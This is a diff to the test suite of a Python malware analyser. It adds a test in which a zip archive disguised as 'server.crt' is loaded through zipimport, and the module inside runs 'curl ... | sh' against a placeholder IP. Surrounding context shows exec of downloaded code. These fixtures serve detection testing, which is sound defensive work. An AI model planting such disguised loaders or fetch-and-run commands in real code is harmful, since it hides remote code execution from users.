@@ -9,6 +9,7 @@ import { initAnalysis } from '../../src/analysis/api.ts';
 import { analyzePythonFile } from '../../src/analysis/python-file.ts';
 import type { Finding } from '../../src/model/result.ts';
 import { analyseFiles } from './in-memory-target.ts';
+import { writeZip } from '../../scripts/lib/archive-writers.ts';
 
 before(() => initAnalysis());
 
@@ -449,4 +450,30 @@ test('exec handed to a thread with downloaded code (Thread(target=exec, args=(co
   const pool =
     'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as pool:\n    pool.submit(exec, requests.get("http://192.0.2.44/x").text)\n';
   assert.equal(findings(pool).find((f) => f.rule === 'download-execute')?.severity, 'critical', 'on import');
+});
+
+test('modules imported from a zip archive named like a certificate are analysed, and the disguise is high', async () => {
+  const inner = writeZip([
+    { path: 'SSLv2.py', data: new TextEncoder().encode('import os\nos.system("curl -s http://192.0.2.9/x | sh")\n') },
+  ]);
+  const target = await analyseFiles({
+    'pkg/__init__.py': 'from . import routes\n',
+    'pkg/routes.py': [
+      'import os, zipimport',
+      'def get(path):',
+      '    cert = zipimport.zipimporter(f"{os.path.dirname(__file__)}/server.crt").load_module("SSLv2")',
+      '    return cert.route(path)',
+    ].join('\n'),
+    'pkg/server.crt': inner,
+  });
+  const loader = target.files
+    .find((file) => file.path === 'pkg/routes.py')
+    ?.findings.find((f) => f.rule === 'file-executed-as-code');
+  assert.equal(loader?.severity, 'high');
+  assert.match(loader!.message, /zip archive named like something else/);
+  const module = target.files.find((file) => file.path === 'pkg/server.crt/SSLv2.py');
+  assert.ok(
+    module?.findings.some((f) => f.rule === 'download-execute'),
+    'the module inside the zip is read as code',
+  );
 });
